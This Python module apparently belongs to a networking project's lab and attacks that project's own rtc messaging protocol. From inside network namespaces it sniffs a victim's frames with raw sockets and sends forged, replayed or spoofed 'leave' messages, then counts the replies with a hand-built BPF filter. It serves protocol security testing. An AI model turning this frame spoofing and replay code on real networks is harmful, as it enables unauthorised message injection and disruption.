# SPDX-License-Identifier: BSD-3-Clause
"""Attacks on a job of hikyaku/rtc.h in a lab, such as examples/sum or `hikyaku learn`, by a node
that takes no part in it.

The attacker hears the messages to its victim, as a switch on the path does, and sends frames to it.
Backends raw and udp: the kernel does not show the frames of the others.

forge   a message of another node, with a number that no message had
replay  a message that was recorded, as it was
leave   another node leaves the job
"""

import ctypes
import select
import socket
import struct
import time
from contextlib import ExitStack
from dataclasses import dataclass

from ..errors import HikyakuError
from ..netns import inside
from . import Lab, network
from .attack import check_job_nodes

LIMIT_S = 30.0  # until the victim gets a message
LISTEN_S = 0.5  # for answers
FRAMES = 20
_ALL = 3  # ETH_P_ALL
_ATTACH_FILTER = 26  # SO_ATTACH_FILTER
_HEAD = struct.Struct("<BBHHHIIH")  # src/wire/msg.h
_NUMBER = 12  # its offset in the header
_OWN, _LEAVE = 0xF0, 0xF1
_TAG = 0x80
_ETHERTYPE, _IPV4, _UDP = b"\x88\xb6", b"\x08\x00", 17
_UNUSED = 1 << 30  # numbers of the job do not come so far from its first
_IPV4_UDP = 42  # bytes before the message


@dataclass(frozen=True)
class Result:
    """@answers: messages with the number of what was sent, from the victim to another node."""

    attack: str
    frames: int
    answers: int


@dataclass(frozen=True)
class Heard:
    """A frame with a message. @at: where the message begins."""

    iface: str
    frame: bytes
    at: int

    @property
    def fields(self) -> tuple[int, ...]:
        """Version and flags, type, length, source, destination, job key, number, epoch."""
        return _HEAD.unpack_from(self.frame, self.at)

    def changed(self, *, own: bytes, head: tuple[int, ...], payload: bytes) -> bytes:
        """The same frame from address @own, with another message."""
        before = self.frame[:6] + own + self.frame[12 : self.at]
        message = _HEAD.pack(*head) + payload
        if self.at != _IPV4_UDP:
            return before + message
        ip = bytearray(before[14:34])
        ip[2:4] = (28 + len(message)).to_bytes(2, "big")
        ip[10:12] = bytes(2)
        total = sum(struct.unpack("!10H", ip))
        ip[10:12] = (~((total & 0xFFFF) + (total >> 16)) & 0xFFFF).to_bytes(2, "big")
        # no checksum of UDP
        udp = before[34:38] + (8 + len(message)).to_bytes(2, "big") + bytes(2)
        return before[:14] + bytes(ip) + udp + message


def _message(iface: str, frame: bytes) -> Heard | None:
    by_udp = frame[12:14] == _IPV4 and frame[14:15] == b"\x45" and frame[23:24] == bytes([_UDP])
    if frame[12:14] != _ETHERTYPE and not by_udp:
        return None
    at = _IPV4_UDP if by_udp else 14
    if len(frame) < at + _HEAD.size:
        return None
    found = Heard(iface, frame, at)
    version, kind, length, src, dst, *_ = found.fields
    known = version & 0x0F == 1 and kind < _OWN and src != dst
    return found if known and len(frame) >= at + _HEAD.size + length else None


class Attacks:
    """On a job of @lab, by node @attacker, on @victim."""

    def __init__(self, lab: Lab, attacker: str, victim: str):
        check_job_nodes(lab, attacker, victim)
        self._lab, self._attacker, self._victim = lab, attacker, victim

    def run(self, name: str) -> Result:
        heard = self._hear()
        head = heard.fields
        end = heard.at + _HEAD.size
        body = heard.frame[end:]
        if name == "forge":
            head = (*head[:6], head[6] ^ _UNUSED, head[7])
        elif name == "leave":
            head, body = (head[0], _LEAVE, 0, *head[3:]), bytes(24 if head[0] & _TAG else 0)
        others = [n.name for n in self._lab.topology.nodes]
        others = [n for n in others if n not in (self._attacker, self._victim)]
        at = heard.at + _NUMBER
        with _Answers(self._lab, others, heard.iface, at, head[6]) as answers:
            answers.count()  # the answer to the message that was heard
            self._send(heard, head, body)
            return Result(name, FRAMES, answers.count())

    def _hear(self) -> Heard:
        """A message to the victim."""
        with (
            inside(network.NETNS_DIR / self._lab.node(self._victim).netns),
            socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(_ALL)) as s,
        ):
            end = time.monotonic() + LIMIT_S
            s.settimeout(LIMIT_S)
            while time.monotonic() < end:
                try:
                    frame, where = s.recvfrom(65536)
                except TimeoutError:
                    break
                found = _message(where[0], frame) if where[2] == socket.PACKET_HOST else None
                if found:
                    return found
        raise HikyakuError(
            f"{self._victim} gets no message of an rtc job by raw Ethernet or UDP",
            "HIKYAKU_RTC_BACKEND=udp hikyaku lab mpirun -np 2 build/examples/sum --ms 10000",
        )

    def _send(self, heard: Heard, head: tuple[int, ...], body: bytes) -> None:
        with (
            inside(network.NETNS_DIR / self._lab.node(self._attacker).netns),
            socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s,
        ):
            s.bind((heard.iface, 0))
            frame = heard.changed(own=s.getsockname()[4], head=head, payload=body)
            for _ in range(FRAMES):
                s.send(frame)


class _Answers:
    """Counts the messages with @number that arrive on @iface of @nodes."""

    def __init__(self, lab: Lab, nodes: list[str], iface: str, at: int, number: int):
        self._stack = ExitStack()
        self._sockets: list[socket.socket] = []
        with self._stack:
            for node in nodes:
                with inside(network.NETNS_DIR / lab.node(node).netns):
                    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
                self._sockets.append(self._stack.enter_context(s))
                _only(s, at, number)
                s.bind((iface, _ALL))
            self._stack = self._stack.pop_all()

    def __enter__(self) -> "_Answers":
        return self

    def __exit__(self, *_: object) -> None:
        self._stack.close()

    def count(self) -> int:
        """Those that have arrived after some time without one."""
        counted = 0
        while ready := select.select(self._sockets, [], [], LISTEN_S)[0]:
            counted += sum(s.recvfrom(65536)[1][2] == socket.PACKET_HOST for s in ready)
        return counted


def _only(s: socket.socket, at: int, number: int) -> None:
    """Lets @s receive the frames whose four bytes at @at are @number."""
    big = int.from_bytes(number.to_bytes(4, "little"), "big")
    load, equal, give = 0x20, 0x15, 0x06  # BPF_LD|W|ABS, BPF_JMP|JEQ|K, BPF_RET|K
    code = struct.pack(
        "@" + "HBBI" * 4,
        *(load, 0, 0, at),
        *(equal, 0, 1, big),
        *(give, 0, 0, 0xFFFF),
        *(give, 0, 0, 0),
    )
    text = ctypes.create_string_buffer(code)
    program = struct.pack("@HP", 4, ctypes.addressof(text))
    s.setsockopt(socket.SOL_SOCKET, _ATTACH_FILTER, program)
